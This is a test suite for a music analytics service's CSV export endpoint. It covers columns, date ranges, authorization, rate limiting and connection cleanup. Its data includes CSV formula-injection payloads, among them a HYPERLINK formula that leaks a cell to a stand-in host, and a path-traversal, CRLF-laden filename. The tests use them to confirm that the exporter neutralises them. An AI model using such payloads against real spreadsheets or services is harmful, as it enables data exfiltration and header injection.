import { describe, expect, it } from "vitest";
import { sql } from "@/db/client";
import { addDays } from "@/lib/listening/insights/spans";
import { answer } from "@/tests/support/api";
import { csvRows, requestExport } from "@/tests/support/exports";
import {
  createAlbum,
  createArtist,
  createCaller,
  createToken,
  createTrack,
  createUser,
} from "@/tests/support/factories";
import { createScene, play, react, today } from "@/tests/support/insights";
import { addMember } from "@/tests/support/plays";
import { waitUntilRefusal } from "@/tests/support/queue-timeout";

/** A producer of one track with the given name, on an album of the same name, by an artist of the same name. */
async function findColumn(name: string) {
  const { token, id } = await createCaller();
  const artist = await createArtist({ owner_id: id, name });
  const album = await createAlbum([artist.id], { name });
  const track = await createTrack([artist.id], { name, album_id: album.id, album_position: 1 });
  return { token, artist, album, track };
}

describe("exportCsv: answers", () => {
  it("exportCsv answers a row for each track, most plays first, with the change against the days before", async () => {
    const { producer, own, shared } = await createScene();
    await play(
      { track: own.id, device: "a" },
      { track: shared.id, device: "a" },
      { track: shared.id, device: "a", daysAgo: 1 },
      { track: shared.id, device: "b", daysAgo: 29 },
      { track: shared.id, device: "c", daysAgo: 30 },
      { track: own.id, device: "c", daysAgo: 31 },
      { track: own.id, device: "d", daysAgo: 31 },
      { track: own.id, device: "e", daysAgo: 31 },
    );
    await react("likes", own.id, 3);
    await react("reposts", shared.id, 4);
    const answer = await requestExport("csv", producer.token);
    expect(answer.status).toBe(200);
    expect(answer.headers.get("Content-Type")).toBe("text/csv; charset=utf-8");
    const rows = csvRows(answer);
    expect(Object.keys(rows[0] ?? {}).join()).toBe(
      "id,name,artists,album,release_date,plays,listeners,likes,reposts,plays_change,listeners_change",
    );
    expect(rows).toMatchObject([
      {
        id: String(shared.id),
        plays: "3",
        listeners: "2",
        likes: "0",
        reposts: "1",
        plays_change: "200",
        listeners_change: "100",
      },
      {
        id: String(own.id),
        plays: "1",
        listeners: "1",
        likes: "1",
        reposts: "0",
        plays_change: "-66.7",
        listeners_change: "-66.7",
      },
    ]);
    expect(rows[0]?.artists?.split(", ")).toHaveLength(2);
  });

  it("exportCsv answers a row for each day and track, empty days included", async () => {
    const { producer, own, shared } = await createScene();
    await play(
      { track: own.id, device: "a" },
      { track: own.id, device: "a" },
      { track: own.id, device: "b", daysAgo: 2 },
      { track: own.id, device: "a", daysAgo: 7 },
    );
    await react("likes", own.id, 2);
    const rows = csvRows(await requestExport("csv", producer.token, { group_by: "day", period: "7-days" }));
    expect(Object.keys(rows[0] ?? {}).join()).toBe(
      "date,id,name,artists,album,release_date,plays,listeners,likes,reposts",
    );
    const days = [6, 5, 4, 3, 2, 1, 0].map((ago) => addDays(today(), -ago));
    expect(rows.map(({ date, id }) => [date, Number(id)])).toEqual(
      days.flatMap((date) => [own.id, shared.id].map((id) => [date, id])),
    );
    const activeRows = rows.filter(({ plays, likes }) => plays !== "0" || likes !== "0");
    expect(activeRows).toMatchObject([
      { date: addDays(today(), -2), id: String(own.id), plays: "1", listeners: "1", likes: "1" },
      { date: today(), id: String(own.id), plays: "2", listeners: "1", likes: "0" },
    ]);
  });

  it("exportCsv answers albums and artists, a listener of two tracks once", async () => {
    const { producer, artist, album, own, shared } = await createScene();
    await play({ track: own.id, device: "a" }, { track: shared.id, device: "a" });
    const albums = csvRows(await requestExport("csv", producer.token, { type: "albums" }));
    expect(albums).toMatchObject([{ id: String(album.id), plays: "2", listeners: "1" }]);
    expect(Object.keys(albums[0] ?? {}).slice(0, 4)).toEqual(["id", "name", "artists", "release_date"]);
    const artists = csvRows(await requestExport("csv", producer.token, { type: "artists" }));
    expect(artists).toMatchObject([{ id: String(artist.id), plays: "2", listeners: "1" }]);
    expect(Object.keys(artists[0] ?? {}).slice(0, 3)).toEqual(["id", "name", "plays"]);
  });

  it("exportCsv answers the days asked for instead of a period, against as many before", async () => {
    const { producer, own } = await createScene();
    await play(
      { track: own.id, device: "a", daysAgo: 10 },
      { track: own.id, device: "b", daysAgo: 11 },
      { track: own.id, device: "c", daysAgo: 12 },
      { track: own.id, device: "d", daysAgo: 9 },
    );
    const answer = await requestExport("csv", producer.token, {
      from: addDays(today(), -11),
      to: addDays(today(), -10),
    });
    expect(csvRows(answer)[0]).toMatchObject({ id: String(own.id), plays: "2", plays_change: "100" });
    expect(answer.headers.get("Content-Disposition")).toContain(
      `-tracks-${addDays(today(), -11)}-to-${addDays(today(), -10)}.csv`,
    );
  });

  it("exportCsv answers all artists the account manages, or the one it names, a shared track once", async () => {
    const { producer, artist, own, shared, rivalArtist } = await createScene();
    await addMember(rivalArtist.id, producer.id);
    const readIds = async (body: object) =>
      csvRows(await requestExport("csv", producer.token, body)).map(({ id }) => Number(id));
    const alone = await createTrack([rivalArtist.id]);
    expect((await readIds({})).sort()).toEqual([own.id, shared.id, alone.id].sort());
    expect((await readIds({ artist_id: artist.id })).sort()).toEqual([own.id, shared.id].sort());
    expect((await readIds({ type: "artists" })).sort()).toEqual([artist.id, rivalArtist.id].sort());
  });

  it("exportCsv answers a header and nothing more where there is nothing", async () => {
    const { token, id } = await createCaller();
    await createArtist({ owner_id: id });
    const { text } = await requestExport("csv", token);
    expect(text.split("\r\n")).toEqual([expect.stringMatching(/^\ufeffid,name,/), ""]);
  });

  it("exportCsv begins with a byte order mark for Excel, unless it is not wanted", async () => {
    const { token } = await findColumn("Größe");
    expect([...(await requestExport("csv", token)).bytes.slice(0, 5)]).toEqual([
      0xef, 0xbb, 0xbf, 0x69, 0x64,
    ]);
    expect((await requestExport("csv", token, { byte_order_mark: false })).text.slice(0, 3)).toBe("id,");
  });

  it.each([
    ["=1+1", "'=1+1"],
    ["+49 30", "'+49 30"],
    ["-Interlude-", "'-Interlude-"],
    ["@home", "'@home"],
    ["\t=1+1", "'\t=1+1"],
    ["\r=1+1", "'\r=1+1"],
    ["\n=1+1", "'\n=1+1"],
    ["＝1+1", "'＝1+1"],
    ["'already", "'already"],
    ["a=b", "a=b"],
    ['She said "no"', 'She said "no"'],
    ["one, two; three", "one, two; three"],
    ["two\nlines\r\nand three", "two\nlines\r\nand three"],
    [" spaced ", " spaced "],
    ["\\N", "\\N"],
    ["\\.", "\\."],
    ["NULL", "NULL"],
    ["東京 Привет مرحبا 🔥", "東京 Привет مرحبا 🔥"],
    ['=HYPERLINK("http://x/?"&A1)', '\'=HYPERLINK("http://x/?"&A1)'],
  ])("exportCsv answers the name %j as %j, for tracks, albums and artists", async (name, cell) => {
    const { token } = await findColumn(name);
    const cells = async (type: string) => csvRows(await requestExport("csv", token, { type }))[0];
    expect(await cells("tracks")).toMatchObject({ name: cell, artists: cell, album: cell });
    expect(await cells("albums")).toMatchObject({ name: cell, artists: cell });
    expect(await cells("artists")).toMatchObject({ name: cell });
  });

  it("exportCsv answers numbers below 0 as numbers", async () => {
    const { token, track } = await findColumn("Low");
    await play({ track: track.id, device: "a", daysAgo: 31 });
    expect((await requestExport("csv", token)).text).toMatch(/,0,0,0,0,-100,-100\r\n$/);
  });

  it("exportCsv answers a file named after the artist, whatever that is called", async () => {
    const { token } = await findColumn('../Größe"\r\n');
    expect(
      (await requestExport("csv", token, { type: "albums" })).headers.get("Content-Disposition"),
    ).toMatch(
      /^attachment; filename="Gro_e-albums-[\d-]+-to-[\d-]+\.csv"; filename\*=UTF-8''Gr%C3%B6%C3%9Fe-albums-/,
    );
  });
});

describe("exportCsv: refusals", () => {
  const tomorrow = () => addDays(today(), 1);
  it.each([
    ["a period with days", () => ({ period: "7-days", from: "2026-01-01", to: "2026-01-02" }), "period"],
    ["a first day without a last", () => ({ from: "2026-01-01" }), "to"],
    ["a last day without a first", () => ({ to: "2026-01-01" }), "from"],
    ["a first day after the last", () => ({ from: "2026-01-02", to: "2026-01-01" }), "from"],
    ["the future", () => ({ from: "2026-01-01", to: tomorrow() }), "to"],
    ["more than 366 days", () => ({ from: addDays(today(), -366), to: today() }), "to"],
    ["days before there was anything", () => ({ from: "0001-01-01", to: "0001-01-02" }), "from"],
    ["a day there never was", () => ({ from: "2026-02-30", to: "2026-03-01" }), "from"],
    ["another period", () => ({ period: "all" }), "period"],
    ["another type", () => ({ type: "users" }), "type"],
    ["another grouping", () => ({ group_by: "week" }), "group_by"],
    ["an id that is none", () => ({ artist_id: "1" }), "artist_id"],
  ])("exportCsv refuses %s, naming the field", async (_, body, field) => {
    const { status, body: answer } = await requestExport("csv", (await createCaller()).token, body());
    expect(status).toBe(422);
    expect(answer).toMatchObject({ success: false, error: "validation_failed" });
    expect(Object.keys(answer.errors)).toEqual([field]);
  });

  it("exportCsv refuses an account that manages no artist and names none", async () => {
    const { status, body } = await requestExport("csv", (await createCaller()).token);
    expect([status, body.message]).toEqual([403, "This account does not manage an artist."]);
  });

  it("exportCsv refuses an unknown artist", async () => {
    const { status, body } = await requestExport("csv", (await createCaller()).token, {
      artist_id: 999999999,
    });
    expect([status, body.error]).toEqual([404, "not_found"]);
  });

  it("exportCsv refuses more than two exports at once of one account: the third waits, but not forever", async () => {
    const { token, artist } = await findColumn("Busy");
    for (let track = 0; track < 10; track++) await createTrack([artist.id]);
    const large = { group_by: "day", period: "1-year" };
    // Answered and not read: each holds what it has.
    const answers = await Promise.all([0, 1].map(() => answer(rawRequest(token, large))));

    const refusal = await waitUntilRefusal(() => requestExport("csv", token));
    expect([refusal.status, refusal.headers.get("Retry-After")]).toEqual([429, "5"]);
    expect(refusal.body).toMatchObject({ error: "rate_limited", retry_after: 5 });

    const waiting = requestExport("csv", token);
    for (const response of answers) await response.body?.cancel();
    expect((await waiting).status).toBe(200);
  });
});

function rawRequest(token: string, body: object = {}): Request {
  return new Request("http://downbeat.test/api/v1/producer-intelligence/insights/export/csv", {
    method: "POST",
    headers: { Authorization: `Bearer ${token}`, "Content-Type": "application/json" },
    body: JSON.stringify(body),
  });
}

describe("exportCsv: authorization", () => {
  it("exportCsv refuses an artist to accounts that do not manage it", async () => {
    const { rival, artist } = await createScene();
    const { status, body } = await requestExport("csv", rival.token, { artist_id: artist.id });
    expect([status, body.error]).toEqual([403, "forbidden"]);
  });

  it("exportCsv hides each producer's numbers from the other, but not the track they share", async () => {
    const { producer, rival, own, shared } = await createScene();
    await play({ track: own.id, device: "a" }, { track: shared.id, device: "a" });
    const ids = async (token: string) =>
      csvRows(await requestExport("csv", token))
        .map(({ id }) => Number(id))
        .sort();
    expect(await ids(producer.token)).toEqual([own.id, shared.id].sort());
    expect(await ids(rival.token)).toEqual([shared.id]);
  });

  it("exportCsv answers an operator who names an artist with its tracks, and refuses one who names none", async () => {
    const { artist, own, shared } = await createScene();
    const operator = await createUser({ role: "operator" });
    const token = await createToken(operator.id);
    const rows = csvRows(await requestExport("csv", token, { artist_id: artist.id }));
    expect(rows.map(({ id }) => Number(id)).sort()).toEqual([own.id, shared.id].sort());
    expect((await requestExport("csv", token)).status).toBe(403);
  });

  it("A client of exportCsv that disconnects leaves nothing behind in the database", async () => {
    const { token } = await findColumn("Leaving");
    const response = await answer(rawRequest(token));
    await response.body?.cancel();
    await expect
      .poll(
        () =>
          sql`select from pg_stat_activity where application_name = 'downbeat export' and datname = current_database()`,
        {
          interval: 10,
          timeout: 5000,
        },
      )
      .toHaveLength(0);
  });
});
